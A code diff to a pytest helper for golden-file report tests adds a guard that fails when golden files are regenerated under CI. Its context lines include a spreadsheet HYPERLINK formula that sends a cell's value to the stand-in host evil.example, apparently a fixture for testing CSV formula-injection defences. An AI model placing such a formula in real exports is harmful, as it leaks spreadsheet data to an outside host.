@@ -8,6 +8,7 @@ import os
 from pathlib import Path
 
 import pytest
+from _ci import under_ci
 
 GOLDEN = Path(__file__).parent / "data" / "reports"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "click")'
@@ -16,9 +17,12 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 def same_as_golden(name: str, text: str) -> None:
     """``text`` equals the golden file ``name`` (written instead when regenerating). In a CSV
-    file, numbers are compared to 1e-12: sums over items in another order differ in the last bit."""
+    file, numbers are compared to 1e-12: sums over items in another order differ in the last bit.
+    Regenerating under CI is refused: there it would turn every change of content into a pass."""
     path = GOLDEN / name
     if os.environ.get("DIFFGEN_REGEN_GOLDEN"):
+        if under_ci():
+            pytest.fail("DIFFGEN_REGEN_GOLDEN is set under CI: golden files are regenerated only by hand, for an intended change")
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(text.encode("utf-8"))
     golden = path.read_bytes().decode("utf-8")
